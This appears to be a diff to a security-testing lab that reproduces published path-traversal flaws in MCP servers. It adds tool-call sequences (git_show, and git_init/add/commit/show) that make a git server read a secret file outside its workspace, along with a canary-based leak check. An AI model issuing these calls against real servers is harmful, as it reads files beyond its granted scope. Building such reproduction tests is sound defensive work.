@@ -5,7 +5,7 @@ from __future__ import annotations
 import json
 from typing import TYPE_CHECKING, Any
 
-from doorward.lab import oracles
+from doorward.lab import git_repository, oracles
 from doorward.lab.scenario import (
     BEHIND,
     BenignTwinBrokenError,
@@ -34,6 +34,10 @@ def furnish(work: Path, greeting: str) -> None:
     (work / NOTE).write_text(f"minutes of the meeting: {greeting}\n", encoding="utf-8")
     (work / "latest.txt").symlink_to(work.parent / "outside" / "secret.txt")
     (work / "shared").symlink_to(work.parent / "outside")
+
+
+def _calls(id: str, title: str, *calls: tuple[str, dict[str, Any]]) -> Variant:
+    return Variant(id, title, [{"method": "tools/call", "params": {"name": n, "arguments": a}} for n, a in calls])
 
 
 def _published_command(stage: Stage) -> tuple[str, ...] | None:
@@ -125,6 +129,26 @@ class PathTraversal(Scenario):
             ),
         ),
         Example(
+            id=git_repository.PUBLISHED,
+            title="CVE-2025-68145 (any repository) and CVE-2025-68143 (any folder becomes one) as published",
+            target=git_repository.GIT,
+            variants=(
+                _calls(
+                    "other-repository",
+                    "a repository that the server was not given",
+                    ("git_show", {"repo_path": "{outside}/vault", "revision": "HEAD"}),
+                ),
+                _calls(
+                    "init-anywhere",
+                    "a folder that is made a repository, committed and read",
+                    ("git_init", {"repo_path": "{outside}"}),
+                    ("git_add", {"repo_path": "{outside}", "files": ["secret.txt"]}),
+                    ("git_commit", {"repo_path": "{outside}", "message": "first"}),
+                    ("git_show", {"repo_path": "{outside}", "revision": "HEAD"}),
+                ),
+            ),
+        ),
+        Example(
             id="workspace-notes",
             title="the document's example on a naive server",
             target=NOTES,
@@ -154,14 +178,17 @@ class PathTraversal(Scenario):
     )
 
     async def attack(self, stage: Stage, variant: Variant) -> None:
-        payload = stage.filled(variant.payload)
-        await stage.ask(payload["method"], payload["params"])
+        steps = variant.payload if isinstance(variant.payload, list) else [variant.payload]
+        for step in stage.filled(steps):
+            await stage.ask(step["method"], step["params"])
 
     def harmed(self, stage: Stage, _variant: Variant, trace: Trace, /) -> Harm | None:
         how = oracles.arrived(trace.lines, stage.canary)
         return Harm(f"the client got the content of a file outside the workspace: {how}") if how else None
 
     async def benign(self, stage: Stage) -> str:
+        if stage.example.target is git_repository.GIT:
+            return await git_repository.honest_look(stage)
         if stage.example.target is FILESYSTEM:
             got: Any = await stage.client.call_tool("read_file", {"path": str(stage.layout.work / NOTE)})
             if stage.greeting not in got.content[0].text:
